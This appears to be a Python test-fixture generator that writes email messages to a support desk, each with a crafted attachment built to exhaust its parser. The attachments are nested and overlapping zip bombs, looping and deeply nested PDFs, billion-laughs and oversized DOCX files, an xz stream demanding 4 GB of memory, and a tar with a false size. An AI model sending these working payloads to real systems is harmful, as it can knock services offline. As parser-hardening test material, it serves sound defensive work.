"""Mails with attachments that are made to exhaust their reader: `bombs.py FOLDER` writes one message a bomb."""

import binascii
import email.message
import email.policy
import io
import lzma
import pathlib
import struct
import sys
import zipfile
import zlib

MIB = 1 << 20


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def nested():
    """Archives in archives, sixteen of each: a thousand gigabytes in the end."""
    inner = zipped([("0.txt", bytes(64 * MIB))])
    for _ in range(4):
        inner = zipped([(f"{n}.zip", inner) for n in range(16)])
    return inner


def overlapping():
    """Ten thousand entries of the directory that all name the same octets."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = data.compress(bytes(20 * MIB)) + data.flush()
    crc, size = zlib.crc32(bytes(20 * MIB)), 20 * MIB
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(packed), size, 1, 0) + b"a" + packed
    entries = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, crc, len(packed), size, 5, 0, 0, 0, 0, 0, 0) + b"%05d" % n
        for n in range(10_000)
    )
    return local + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 10_000, 10_000, len(entries), len(local), 0)


def pdf(objects, trailer="<< /Root 1 0 R /Size 9 >>"):
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(b"%010d 00000 n \n" % at for at in places)
    return bytes(out) + f"trailer\n{trailer}\nstartxref\n{start}\n%%EOF\n".encode()


def page(content):
    return [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>", content]


def chained():
    """A page whose content is packed three times over."""
    data = bytes(300 * MIB)
    for _ in range(3):
        data = zlib.compress(data, 9)
    return pdf(page(b"<< /Filter [/FlateDecode /FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"))


def looping():
    """Pages that are their own parents, and a cross-reference table that goes back to itself."""
    made = pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"])
    start = made[made.rindex(b"startxref") :].split()[1]
    return made.replace(b"/Size 9", b"/Size 9 /Prev " + start)


def deep():
    return pdf(page(b"[" * 50_000 + b"]" * 50_000))


def docx(document):
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    return zipped([("[Content_Types].xml", types), ("_rels/.rels", rels), ("word/document.xml", document)])


def laughs():
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{levels}]><w:document xmlns:w="w"><w:t>&l9;</w:t></w:document>')


def attributes():
    return docx("<w:document xmlns:w='w' " + " ".join(f"a{n}='1'" for n in range(800_000)) + "/>")


def elements():
    return docx("<w:document xmlns:w='w'>" + "<w:p>" * 1_000_000 + "</w:document>")


def window():
    """A stream that asks for four gigabytes before its first octet."""
    made = bytearray(lzma.compress(bytes(1000), lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 4096}]))
    size = (made[12] + 1) * 4
    header = made[12 : 12 + size - 4]
    header[4] = 40
    made[12 : 12 + size] = header + struct.pack("<I", binascii.crc32(bytes(header)))
    return bytes(made)


def sizes():
    """A member of eight gigabytes in an archive of a kilobyte."""
    head = bytearray(512)
    head[0:5], head[100:107], head[124:135], head[156:157], head[257:265] = b"a.txt", b"0000644", b"77777777777", b"0", b"ustar\x0000"
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + bytes(512)


BOMBS = {
    "nested.zip": nested,
    "overlapping.zip": overlapping,
    "chained.pdf": chained,
    "looping.pdf": looping,
    "deep.pdf": deep,
    "laughs.docx": laughs,
    "attributes.docx": attributes,
    "elements.docx": elements,
    "window.xz": window,
    "sizes.tar": sizes,
}


def main(folder):
    for name, make in BOMBS.items():
        message = email.message.EmailMessage(policy=email.policy.SMTP)
        message["From"], message["To"], message["Subject"] = "Ann <ann@customer.example>", "support@desk.example.test", name
        message["Message-ID"], message["Date"] = f"<{name}@customer.example>", "Mon, 23 Nov 2026 10:00:00 +0000"
        message.set_content("See the attachment.")
        message.add_attachment(make(), maintype="application", subtype="octet-stream", filename=name)
        (pathlib.Path(folder) / f"{name}.eml").write_bytes(message.as_bytes())


if __name__ == "__main__":
    main(sys.argv[1])
